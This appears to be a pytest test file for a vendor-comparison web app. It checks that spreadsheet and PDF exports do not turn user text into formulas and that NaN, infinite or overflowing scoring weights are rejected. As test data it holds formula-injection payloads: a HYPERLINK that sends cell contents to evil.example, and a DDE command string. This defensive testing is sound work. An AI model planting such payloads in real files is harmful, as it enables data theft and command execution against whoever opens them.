"""The comparison's exports carry no formula from user text, and weights must be ordinary numbers."""

from __future__ import annotations

import io
import json

import pytest
from openpyxl import load_workbook

from outsourcing.vendors.models import Vendor

pytestmark = pytest.mark.django_db

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def test_the_comparison_xlsx_has_no_formula_cell_from_user_text(web, manager, vendor_a, engagement_a) -> None:  # type: ignore[no-untyped-def]
    Vendor.objects.filter(pk=vendor_a.pk).update(name=HOSTILE)
    engagement_a.title = "+cmd|' /C calc'!A0"
    engagement_a.save()
    query = f"engagement={engagement_a.pk}&vendors={vendor_a.pk}"
    response = web(manager).get(f"/assessments/compare/export.xlsx?{query}")
    assert response.status_code == 200
    workbook = load_workbook(io.BytesIO(response.content))
    cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    # Shown as typed (no apostrophe added), in the table and in the breakdown: a text cell marked "quote
    # prefix", which the spreadsheet neither runs nor turns into a formula when the cell is edited.
    hostile = [cell for cell in cells if cell.value == HOSTILE]
    assert len(hostile) >= 2
    assert all(cell.data_type == "s" and cell.quotePrefix for cell in hostile)
    assert any(cell.value == str(engagement_a) and cell.data_type == "s" for cell in cells)


def test_the_comparison_pdf_shows_the_name_as_text(web, manager, vendor_a, engagement_a) -> None:  # type: ignore[no-untyped-def]
    Vendor.objects.filter(pk=vendor_a.pk).update(name="@SUM(1+1)")
    response = web(manager).get(f"/assessments/compare/export.pdf?engagement={engagement_a.pk}&vendors={vendor_a.pk}")
    assert response.status_code == 200 and response.content.startswith(b"%PDF")


@pytest.mark.parametrize("weight", ["NaN", "Infinity", "-Infinity"])
def test_the_api_refuses_weights_that_are_not_numbers(api, manager, vendor_a, engagement_a, weight) -> None:  # type: ignore[no-untyped-def]
    body = (
        f'{{"engagement_id": {engagement_a.pk}, "vendor_ids": [{vendor_a.pk}], '
        f'"weights": {{"assessment_score": {weight}}}}}'
    )
    client = api(manager)
    response = client.client.post(
        "/api/v1/scoring/compare", body, content_type="application/json", headers=client.headers
    )
    assert response.status_code == 422
    assert response.json()["detail"][0]["field"] == "weights"


def test_the_api_refuses_weights_whose_sum_overflows(api, manager, vendor_a, engagement_a) -> None:  # type: ignore[no-untyped-def]
    from outsourcing.assessments.comparison import criterion_codes

    codes = criterion_codes()[:2]
    body = {"engagement_id": engagement_a.pk, "vendor_ids": [vendor_a.pk], "weights": dict.fromkeys(codes, 1e308)}
    response = api(manager).post("/scoring/compare", json.loads(json.dumps(body)))
    assert response.status_code == 422
    assert response.json()["detail"][0]["field"] == "weights"


def test_large_finite_weights_still_work(api, manager, vendor_a, engagement_a) -> None:  # type: ignore[no-untyped-def]
    from outsourcing.assessments.comparison import criterion_codes

    body = {"engagement_id": engagement_a.pk, "vendor_ids": [vendor_a.pk], "weights": {criterion_codes()[0]: 1e300}}
    assert api(manager).post("/scoring/compare", body).status_code == 200


@pytest.mark.parametrize(
    ("weight", "message"), [("nan", "ordinary number"), ("inf", "ordinary number"), ("-inf", "must be a number ≥ 0")]
)
def test_the_page_refuses_weights_that_are_not_numbers(web, manager, vendor_a, engagement_a, weight, message) -> None:  # type: ignore[no-untyped-def]
    from outsourcing.assessments.comparison import criterion_codes

    code = criterion_codes()[0]
    query = f"engagement={engagement_a.pk}&vendors={vendor_a.pk}&mode=typed&w_{code}={weight}"
    page = web(manager).get(f"/assessments/compare/?{query}").content.decode()
    assert message in page
    assert "Weighted total" not in page  # no table of "nan" scores
